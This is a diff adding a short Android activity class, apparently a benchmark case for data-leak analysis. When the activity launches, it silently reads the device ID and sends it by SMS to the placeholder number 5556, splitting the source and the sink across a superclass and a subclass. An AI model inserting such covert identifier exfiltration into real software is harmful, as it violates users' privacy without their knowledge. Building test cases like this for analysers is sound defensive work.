@@ -1,0 +1,34 @@
+package org.brookside.ways;
+
+import android.app.*;
+import android.content.*;
+import android.content.res.Configuration;
+import android.database.*;
+import android.database.sqlite.*;
+import android.location.*;
+import android.net.Uri;
+import android.os.*;
+import android.telephony.*;
+import android.text.*;
+import android.util.*;
+import android.view.*;
+import android.webkit.*;
+import android.widget.*;
+import java.io.*;
+import java.lang.ref.*;
+import java.lang.reflect.*;
+import java.net.*;
+import java.util.*;
+import java.util.concurrent.*;
+import java.util.concurrent.atomic.*;
+import java.util.regex.*;
+
+/** The superclass sends what the subclass gives. */
+public class Above extends Case {
+    static abstract class Up { abstract String give(Context c); void go(Context c) { SmsManager.getDefault().sendTextMessage("5556", null, give(c), null, null); } }
+    static class Low extends Up { @Override String give(Context c) { return ((TelephonyManager) c.getSystemService(TELEPHONY_SERVICE)).getDeviceId(); } }
+    @Override protected void onCreate(Bundle s) {
+        super.onCreate(s);
+        new Low().go(this);
+    }
+}
